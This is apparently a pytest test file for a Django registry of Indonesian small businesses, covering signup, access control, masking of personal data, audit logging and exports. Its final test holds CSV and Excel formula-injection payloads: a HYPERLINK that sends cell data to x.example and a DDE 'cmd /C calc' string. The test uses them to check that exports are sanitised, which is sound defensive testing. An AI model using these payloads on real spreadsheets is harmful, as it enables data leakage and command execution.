import pytest
from django.contrib.auth.models import Group, Permission
from django.urls import reverse

from binaumkm.accounts.models import User
from binaumkm.core.models import AuditEntry
from binaumkm.core.testing import assert_constant_queries, make_user
from binaumkm.registry.events import Event
from binaumkm.registry.models import Business, Owner
from binaumkm.registry.tests.factories import BusinessFactory, OwnerFactory, ProductFactory, nik_for

pytestmark = pytest.mark.django_db


@pytest.fixture
def owner_with_business(areas):
    user = make_user("pemilik_umkm", username="+6281200000001", phone="+6281200000001")
    owner = OwnerFactory(user=user)
    return user, BusinessFactory(owner=owner, verification="baru")


def test_signup_creates_account_and_owner_and_asks_to_sign_in(client, areas):
    response = client.post(
        reverse("registry:signup"),
        {
            "full_name": "Sri Lestari",
            "phone": "0812 1111 2222",
            "email": "",
            "nik": nik_for(5, female=True),
            "gender": "P",
            "password": "batik-laweyan-77",
            "password_again": "batik-laweyan-77",
            "consent": "on",
        },
    )
    assert response.status_code == 302 and response.url == reverse("registry:signup_done")
    assert "_auth_user_id" not in client.session  # not signed in: the answer is the same for everyone
    owner = Owner.objects.get(nik=nik_for(5, female=True))
    assert owner.user.phone == "+6281211112222"
    assert owner.user.groups.filter(name="pemilik_umkm").exists()
    assert AuditEntry.objects.filter(action="registry.owner.created").exists()
    assert AuditEntry.objects.filter(action="accounts.user.signed_up", object_id=str(owner.user.pk)).exists()
    assert client.login(username="+6281211112222", password="batik-laweyan-77")


def test_owner_registers_business_and_product(client, areas):
    user = make_user("pemilik_umkm", username="+6281200000009", phone="+6281200000009")
    OwnerFactory(user=user)
    client.force_login(user)
    kel = __import__("binaumkm.core.models", fromlist=["Kelurahan"]).Kelurahan.objects.get(name="Kauman")
    response = client.post(
        reverse("registry:my_business_create"),
        {"name": "Batik Sekar", "address": "Jl. Trisula 3", "kelurahan": kel.pk, "kbli_section": "C",
         "kbli_code": "13134", "annual_sales": "Rp 150.000.000", "employees": 3, "year_founded": 2012},
    )  # fmt: skip
    assert response.status_code == 302, response.content.decode()[:2000]
    business = Business.objects.get(name="Batik Sekar")
    assert business.verification == "baru"
    assert business.size_class == "mikro"
    assert business.annual_sales == 150_000_000
    response = client.post(
        reverse("registry:my_product_create", args=[business.pk]),
        {
            "name": "Kain batik tulis",
            "category": "batik",
            "price": "350.000",
            "unit": "lembar",
            "is_active": "on",
        },
    )
    assert response.status_code == 302
    assert business.products.get().price == 350_000


def test_business_form_errors_are_in_indonesian_and_input_kept(client, owner_with_business):
    user, business = owner_with_business
    client.force_login(user)
    response = client.post(
        reverse("registry:my_business_edit", args=[business.pk]),
        {"name": "<b>Batik</b>", "nib": "123", "address": "x", "kelurahan": business.kelurahan_id, "kbli_section": "C",
         "kbli_code": "47111", "annual_sales": "satu juta", "employees": 1, "whatsapp": "0271 642020"},
    )  # fmt: skip
    html = response.content.decode()
    assert response.status_code == 200
    assert "Tidak boleh berisi kode HTML" in html
    assert "NIB harus 13 digit" in html
    assert "tidak termasuk kategori C" in html
    assert "Tulis nilai rupiah dengan angka" in html
    assert "Masukkan nomor HP" in html
    assert 'value="satu juta"' in html


def test_another_owner_gets_404(client, owner_with_business, areas):
    _user, business = owner_with_business
    other = make_user("pemilik_umkm", username="+6281200000002", phone="+6281200000002")
    OwnerFactory(user=other)
    client.force_login(other)
    for name in ("registry:my_business_detail", "registry:my_business_edit", "registry:my_turnover"):
        assert client.get(reverse(name, args=[business.pk])).status_code == 404
    product = ProductFactory(business=business)
    assert client.get(reverse("registry:my_product_edit", args=[business.pk, product.pk])).status_code == 404
    assert (
        client.post(reverse("registry:my_product_delete", args=[business.pk, product.pk])).status_code == 404
    )


def test_owner_cannot_open_back_office(client, owner_with_business):
    user, business = owner_with_business
    client.force_login(user)
    assert client.get(reverse("registry:business_list")).status_code == 403
    assert client.get(reverse("registry:business_detail", args=[business.pk])).status_code == 403
    assert client.post(reverse("registry:business_verify", args=[business.pk])).status_code == 403


def test_anonymous_is_sent_to_login(client, owner_with_business):
    _user, business = owner_with_business
    for url in (
        reverse("registry:business_list"),
        reverse("registry:my_business_detail", args=[business.pk]),
    ):
        response = client.get(url)
        assert response.status_code == 302 and reverse("accounts:login") in response["Location"]


def test_staff_verifies_and_rejects_with_reason(staff_client, owner_with_business):
    _user, business = owner_with_business
    response = staff_client.post(reverse("registry:business_reject", args=[business.pk]), {"reason": ""})
    business.refresh_from_db()
    assert business.verification == "baru"  # no reason, no rejection
    staff_client.post(reverse("registry:business_reject", args=[business.pk]), {"reason": "Foto KTP buram"})
    business.refresh_from_db()
    assert (business.verification, business.verification_note) == ("ditolak", "Foto KTP buram")
    response = staff_client.post(reverse("registry:business_verify", args=[business.pk]))
    assert response.status_code == 302
    business.refresh_from_db()
    assert business.verification == "terverifikasi" and business.verified_by is not None
    actions = list(AuditEntry.objects.filter(object_id=str(business.pk)).values_list("action", flat=True))
    assert "registry.business.rejected" in actions and "registry.business.verified" in actions


def test_status_change_keeps_history(staff_client, owner_with_business):
    _user, business = owner_with_business
    staff_client.post(
        reverse("registry:business_status", args=[business.pk]),
        {"status": "stagnan", "reason": "Omzet turun"},
    )
    business.refresh_from_db()
    assert business.status == "stagnan"
    change = business.status_changes.first()
    assert (change.old_status, change.new_status, change.reason) == ("aktif", "stagnan", "Omzet turun")


def test_list_filters_and_search(staff_client, areas):
    kel = __import__("binaumkm.core.models", fromlist=["Kelurahan"]).Kelurahan.objects.get(name="Kauman")
    BusinessFactory(name="Batik Kauman", kelurahan=kel, nib="9120000000001")
    BusinessFactory(name="Serabi Notosuman", status="stagnan")
    html = staff_client.get(
        reverse("registry:business_list"), {"kecamatan": kel.kecamatan_id}
    ).content.decode()
    assert "Batik Kauman" in html and "Serabi Notosuman" not in html
    html = staff_client.get(reverse("registry:business_list"), {"q": "9120000000001"}).content.decode()
    assert "Batik Kauman" in html and "Serabi" not in html
    html = staff_client.get(reverse("registry:business_list"), {"status": "stagnan"}).content.decode()
    assert "Serabi Notosuman" in html and "Batik Kauman" not in html
    # A nonsense filter value is ignored, not a 500.
    assert (
        staff_client.get(reverse("registry:business_list"), {"kecamatan": "abc", "page": "x"}).status_code
        == 200
    )


def test_list_masks_nik_for_everyone_full_nik_only_through_a_logged_reveal(
    client, staff_user, admin_user, areas
):
    business = BusinessFactory()
    for user in (staff_user, admin_user):
        client.force_login(user)
        html = client.get(reverse("registry:business_list")).content.decode()
        assert business.owner.nik not in html and "••••" in html
    assert not AuditEntry.objects.filter(action=Event.PERSONAL_DATA_REVEALED).exists()


def test_phone_reveal_is_logged_and_needs_the_personal_data_permission(client, staff_user, areas):
    business = BusinessFactory(owner__phone="+6281234500011")
    client.force_login(staff_user)
    detail = client.get(reverse("registry:business_detail", args=[business.pk])).content.decode()
    assert "+6281234500011" not in detail
    url = reverse("registry:owner_nik_reveal", args=[business.owner.pk])
    assert "+6281234500011" in client.post(url, {"field": "phone"}).content.decode()
    entry = AuditEntry.objects.get(action=Event.PERSONAL_DATA_REVEALED, object_id=str(business.owner.pk))
    assert entry.data == {"field": "phone"} and entry.actor_label == staff_user.display_name
    Group.objects.get(name="staf_dinas").permissions.remove(
        Permission.objects.get(codename="view_personal_data")
    )
    client.force_login(User.objects.get(pk=staff_user.pk))
    assert client.post(url, {"field": "phone"}).status_code == 403


def test_nik_reveal_is_logged(staff_client, areas):
    business = BusinessFactory()
    response = staff_client.post(reverse("registry:owner_nik_reveal", args=[business.owner.pk]))
    assert business.owner.nik in response.content.decode()
    assert AuditEntry.objects.filter(
        action="registry.owner.nik_revealed", object_id=str(business.owner.pk)
    ).exists()


def test_list_query_count_does_not_grow(staff_client, areas):
    def grow(n):
        BusinessFactory.create_batch(n - Business.objects.count())

    def fetch():
        assert staff_client.get(reverse("registry:business_list")).status_code == 200

    assert_constant_queries(fetch, grow, small=10, large=1000)


def test_history_page_shows_changes_with_masked_personal_data(staff_client, owner_with_business):
    _user, business = owner_with_business
    staff_client.post(reverse("registry:business_edit", args=[business.pk]), {
        "name": "Nama Baru", "address": business.address, "kelurahan": business.kelurahan_id, "kbli_section": "C",
        "annual_sales": "100000000", "employees": 2, "whatsapp": "081298765432",
    })  # fmt: skip
    html = staff_client.get(reverse("registry:business_history", args=[business.pk])).content.decode()
    assert "Nama Baru" in html and "Data usaha diubah oleh" in html
    assert "registry.business.updated" not in html  # readable labels, never raw codes
    assert "081298765432" not in html and "+62812" in html


def test_export_xlsx_and_csv_follow_filters_and_mask(staff_client, areas):
    import io

    from openpyxl import load_workbook

    BusinessFactory(name="Batik Ekspor", status="aktif")
    BusinessFactory(name="Warung Tutup", status="tutup")
    response = staff_client.get(reverse("registry:business_export", args=["xlsx"]), {"status": "aktif"})
    rows = list(load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True))
    names = [r[1] for r in rows[1:]]
    assert names == ["Batik Ekspor"]
    assert "••••" in rows[1][3]
    csv_text = b"".join(
        staff_client.get(reverse("registry:business_export", args=["csv"])).streaming_content
    ).decode()
    assert "Batik Ekspor" in csv_text and "Warung Tutup" in csv_text
    assert staff_client.get(reverse("registry:business_export", args=["pdf"])).status_code == 404


def test_healthz(client, db):
    data = client.get("/healthz").json()
    assert data["status"] == "ok" and data["database"]["status"] == "ok"


def test_the_owner_form_never_shows_the_full_nik_and_a_blank_nik_keeps_it(staff_client, areas):
    owner = BusinessFactory().owner
    nik, old_name = owner.nik, owner.full_name
    url = reverse("registry:owner_edit", args=[owner.pk])
    assert owner.nik not in staff_client.get(url).content.decode()
    assert not AuditEntry.objects.filter(action=Event.PERSONAL_DATA_REVEALED).exists()
    data = {
        "full_name": "Nama Dikoreksi",
        "nik": "",
        "phone": owner.phone,
        "email": owner.email,
        "gender": owner.gender,
    }
    assert staff_client.post(url, data).status_code == 302
    owner.refresh_from_db()
    assert owner.full_name == "Nama Dikoreksi" and owner.nik == nik
    entry = AuditEntry.objects.get(action=Event.OWNER_UPDATED, object_id=str(owner.pk))
    assert entry.changes == {"full_name": [old_name, "Nama Dikoreksi"]}


def test_hostile_names_come_out_of_the_exports_as_inert_text(client, admin_user, areas):
    import io

    from openpyxl import load_workbook

    hostile = '=HYPERLINK("http://x.example/?"&D2,"klik")'
    BusinessFactory(name=hostile, owner__full_name="+cmd|' /C calc'!A0", address="@SUM(1)")
    client.force_login(admin_user)
    response = client.get(reverse("registry:business_export", args=["xlsx"]), {"pribadi": "1"})
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row if isinstance(c.value, str)]
    assert {c.value for c in cells} >= {hostile, "+cmd|' /C calc'!A0", "@SUM(1)"}
    assert all(c.data_type == "s" for c in cells)
    csv_text = b"".join(
        client.get(reverse("registry:business_export", args=["csv"])).streaming_content
    ).decode()
    assert "'=HYPERLINK" in csv_text and "'+cmd" in csv_text and "'@SUM(1)" in csv_text
    assert ',"=HYPERLINK' not in csv_text and ",=HYPERLINK" not in csv_text
